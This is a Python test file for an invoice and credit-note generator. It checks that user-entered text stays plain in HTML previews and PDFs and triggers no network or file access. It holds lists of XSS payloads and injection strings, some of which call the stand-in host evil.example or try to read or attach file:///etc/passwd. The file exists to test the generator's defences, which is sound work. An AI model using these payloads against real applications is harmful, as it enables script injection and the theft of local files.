"""User input stays plain text in documents and causes no network or file access."""

from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from itertools import product
from unittest.mock import patch

import pytest

from gst.document import Document
from gst.paper import Copy, html
from kernel.papers.source import ResourceFetcher
from tests.drawn import drawn, text_of
from tests.factories import papers


class Structure(HTMLParser):
    """Collects the elements of a page with their attributes, and the text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def document_with_text_everywhere(text: str) -> Document:
    """Return a document with the text in every field that users fill in."""
    base = papers.credit_note()
    return replace(
        base,
        supplier=replace(
            papers.REGISTERED,
            legal_name=text,
            trade_name=text,
            address=text,
            phone=text,
            email=text,
            footer=text,
        ),
        recipient=replace(papers.CONSUMER, name=text, address=text, phone=text, email=text),
        lines=tuple(replace(line, description=text, code=text, unit=text) for line in base.lines),
        references=((text, text),),
        original=(text, papers.ISSUED),
        reason=text,
    )


OPENINGS = ["", '">', "'>", "</p>", "</title>", "</style>", "-->", "]]>", "{{", "&lt;"]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<math><mi xlink:href=data:x,alert(1)>",
    "<details open ontoggle=alert(1)>",
    "onmouseover=alert(1) style=position:fixed",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{% debug %}{{ document.supplier }}",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "\\u003cscript\\u003ealert(1)",
    "expression(alert(1))",
    "<object data=file:///etc/passwd>",
]
XSS = [opening + payload for opening, payload in product(OPENINGS, PAYLOADS)]


def test_html_injections_are_shown_as_text_in_the_preview() -> None:
    assert len(set(XSS)) == 200
    harmless, long = (
        Structure(html(document_with_text_everywhere(text), copy=Copy.ORIGINAL))
        for text in ("harmless", "harmless" * 9)
    )
    for attack in XSS:
        found = Structure(html(document_with_text_everywhere(attack), copy=Copy.ORIGINAL))
        assert found.elements in (harmless.elements, long.elements), attack
        assert found.text.count(attack) == harmless.text.count("harmless"), attack


def test_html_injections_are_shown_as_text_in_the_pdf() -> None:
    lines = tuple(papers.line(attack, 100) for attack in XSS)
    reader = drawn(papers.document(lines))
    squeezed = "".join("".join(page.extract_text() for page in reader.pages).split())
    assert [attack for attack in XSS if "".join(attack.split()) not in squeezed] == []


def test_invoice_preview_contains_no_script_and_no_external_url() -> None:
    page = html(papers.consumer_invoice(), copy=Copy.ORIGINAL, logo_source="/media/abc.png")
    structure = Structure(page)
    names = {tag for tag, _ in structure.elements}
    assert not names & {"script", "link", "a", "iframe", "object", "form", "base"}
    addresses = [value for _, attrs in structure.elements for name, value in attrs if name in ("src", "href")]
    assert addresses == ["/media/abc.png"]
    assert "url(" not in page and "@import" not in page
    assert "http" not in page.replace('xmlns="http://www.w3.org/2000/svg"', "")


def test_control_characters_are_removed_from_documents() -> None:
    reader = drawn(papers.document((papers.line("a\x00b\x01c\x1b[31md\ufffe\x85", 100),)))
    assert "abc[31md" in text_of(reader)


@pytest.fixture
def fetches() -> Iterator[list[str]]:
    """Yield the URLs that are fetched while a page is drawn."""
    requested: list[str] = []
    real = ResourceFetcher.fetch

    def spied(self: ResourceFetcher, url: str, headers: object = None) -> object:
        requested.append(url)
        return real(self, url, headers)

    with patch.object(ResourceFetcher, "fetch", spied):
        yield requested


ADDRESSES = [
    "http://evil.example/x.png",
    "https://evil.example/x.png",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>",
    "//evil.example/x",
    "<p style='background:url(http://evil.example/x)'>",
    "<style>@import 'file:///etc/passwd'</style>",
    "<svg><image xlink:href='file:///etc/passwd'/></svg>",
    "<a rel=attachment href='file:///etc/passwd'>x</a><link rel=attachment href='file:///etc/passwd'>",
]


@pytest.mark.parametrize("address", ADDRESSES)
def test_url_in_user_input_is_not_fetched_when_a_pdf_is_drawn(address: str, fetches: list[str]) -> None:
    drawn(papers.company_invoice())  # The first drawing loads the fonts once per process.
    fetches.clear()
    reader = drawn(document_with_text_everywhere(address), logo=papers.logo())
    assert fetches == ["handed:logo"]
    assert dict(reader.attachments) == {}
    assert not [page for page in reader.pages if "/Annots" in page]
    squeezed = "".join("".join(page.extract_text() for page in reader.pages).split())
    assert "".join(address.split()) in squeezed
